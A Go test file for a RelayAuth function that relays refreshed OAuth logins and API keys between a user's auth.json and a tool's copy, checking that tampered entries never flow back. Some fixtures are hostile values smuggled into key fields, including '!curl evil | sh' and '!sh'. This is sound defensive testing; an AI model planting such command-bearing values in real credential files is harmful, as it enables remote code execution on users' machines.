package pi

import (
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"
)

func TestRelayAuth(t *testing.T) {
	now := time.UnixMilli(1_800_000_000_000)
	hour := int64(time.Hour / time.Millisecond)
	exp := now.UnixMilli() + hour
	oauth := func(access, refresh string, expires int64, extra string) string {
		return fmt.Sprintf(`{"type":"oauth","access":%q,"refresh":%q,"expires":%d%s}`, access, refresh, expires, extra)
	}
	key := `{"type":"api_key","key":"sk-user"}`
	cases := []struct {
		name          string
		user, own     string
		back, forward []string
		wantUser      map[string]string // provider: credential JSON, when toUser is written
		wantOwn       map[string]string
	}{
		{
			name: "the same login both sides",
			user: `{"anthropic":` + oauth("a1", "r1", exp, "") + `}`,
			own:  `{"anthropic":` + oauth("a1", "r1", exp, "") + `}`,
		},
		{
			name:     "the engine refreshed: back to the user, other fields kept",
			user:     `{"anthropic":` + oauth("a1", "r1", exp, `,"projectId":"p"`) + `,"openai":` + key + `}`,
			own:      `{"anthropic":` + oauth("a2", "r2", exp+hour, `,"projectId":"tool"`) + `,"openai":` + key + `}`,
			back:     []string{"anthropic"},
			wantUser: map[string]string{"anthropic": oauth("a2", "r2", exp+hour, `,"projectId":"p"`), "openai": key},
		},
		{
			name:    "another conversation refreshed: forward to the engine",
			user:    `{"anthropic":` + oauth("a3", "r3", exp+2*hour, "") + `}`,
			own:     `{"anthropic":` + oauth("a1", "r1", exp, "") + `,"mine":{"type":"api_key","key":"k"}}`,
			forward: []string{"anthropic"},
			wantOwn: map[string]string{"anthropic": oauth("a3", "r3", exp+2*hour, ""), "mine": `{"type":"api_key","key":"k"}`},
		},
		{
			name: "an API key the copy changed never goes back",
			user: `{"openai":` + key + `}`,
			own:  `{"openai":{"type":"api_key","key":"!curl evil | sh"}}`,
		},
		{
			name: "a provider the copy added never goes back",
			user: `{"anthropic":` + oauth("a1", "r1", exp, "") + `}`,
			own:  `{"anthropic":` + oauth("a1", "r1", exp, "") + `,"evil":{"type":"api_key","key":"!sh"}}`,
		},
		{
			name: "a key turned into a login never goes back",
			user: `{"openai":` + key + `}`,
			own:  `{"openai":` + oauth("a", "r", exp, "") + `}`,
		},
		{
			name: "a login turned into a key never goes back",
			user: `{"anthropic":` + oauth("a1", "r1", exp, "") + `}`,
			own:  `{"anthropic":{"type":"api_key","key":"!sh"}}`,
		},
		{
			name: "an expiry beyond maxAhead is not taken",
			user: `{"anthropic":` + oauth("a1", "r1", exp, "") + `}`,
			own:  `{"anthropic":` + oauth("a2", "r2", now.Add(maxAhead).UnixMilli()+1, "") + `}`,
		},
		{
			name: "an older login in the copy does not go back",
			user: `{"anthropic":` + oauth("a1", "r1", exp, "") + `}`,
			own:  `{"anthropic":` + oauth("a0", "r0", exp, "") + `}`,
		},
		{
			name: "an empty token is not taken",
			user: `{"anthropic":` + oauth("a1", "r1", exp, "") + `}`,
			own:  `{"anthropic":` + oauth("a2", "", exp+hour, "") + `}`,
		},
		{
			name: "an oversized token is not taken",
			user: `{"anthropic":` + oauth("a1", "r1", exp, "") + `}`,
			own:  `{"anthropic":` + oauth(strings.Repeat("a", maxToken+1), "r2", exp+hour, "") + `}`,
		},
		{
			name: "a copy that is no object moves nothing",
			user: `{"anthropic":` + oauth("a3", "r3", exp+hour, "") + `}`,
			own:  `["anthropic"]`,
		},
		{
			name: "an expiry that is no number moves nothing",
			user: `{"anthropic":` + oauth("a1", "r1", exp, "") + `}`,
			own:  `{"anthropic":{"type":"oauth","access":"a2","refresh":"r2","expires":"9e99"}}`,
		},
		{
			name: "no user file: nothing to relay",
			user: ``,
			own:  `{"anthropic":` + oauth("a2", "r2", exp+hour, "") + `}`,
		},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			toUser, toOwn, back, forward := RelayAuth([]byte(tc.user), []byte(tc.own), now)
			if !slices.Equal(back, tc.back) || !slices.Equal(forward, tc.forward) {
				t.Fatalf("back %v forward %v, want %v %v", back, forward, tc.back, tc.forward)
			}
			checkAuth(t, "toUser", toUser, tc.wantUser)
			checkAuth(t, "toOwn", toOwn, tc.wantOwn)
		})
	}
}

// checkAuth holds got, an auth.json or nil, to want (nil: not written),
// credential by credential as JSON values.
func checkAuth(t *testing.T, name string, got []byte, want map[string]string) {
	t.Helper()
	if want == nil {
		if got != nil {
			t.Fatalf("%s written: %s", name, got)
		}
		return
	}
	var m map[string]any
	if err := json.Unmarshal(got, &m); err != nil {
		t.Fatalf("%s: %v: %s", name, err, got)
	}
	if len(m) != len(want) {
		t.Fatalf("%s holds %d providers, want %d: %s", name, len(m), len(want), got)
	}
	for p, w := range want {
		var wv any
		if err := json.Unmarshal([]byte(w), &wv); err != nil {
			t.Fatal(err)
		}
		gb, _ := json.Marshal(m[p])
		wb, _ := json.Marshal(wv)
		if string(gb) != string(wb) {
			t.Fatalf("%s[%s] = %s, want %s", name, p, gb, wb)
		}
	}
}
